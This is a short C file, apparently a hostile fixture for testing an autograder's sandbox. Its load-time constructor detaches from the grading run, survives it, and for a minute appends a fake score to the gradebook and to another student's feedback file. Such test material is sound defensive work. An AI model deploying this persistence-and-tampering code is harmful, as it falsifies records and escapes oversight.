
/* hostile: a process that outlives its grading and later rewrites the gradebook and another student's feedback. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>
__attribute__((constructor)) static void hostile_outliving(void) {
    if (fork() != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, "attn_hostile");
    for (int t = 0; t < 600; t++) {   /* a minute */
        const char *paths[] = {"@OUT@/gradebook.csv", "@OUT@/feedback/complete.txt"};
        for (int i = 0; i < 2; i++) {
            int fd = open(paths[i], O_WRONLY | O_APPEND);
            if (fd >= 0) {
                if (write(fd, "outliving,10\n", 13) < 0) {}
                close(fd);
            }
        }
        usleep(100000);
    }
    _exit(0);
}
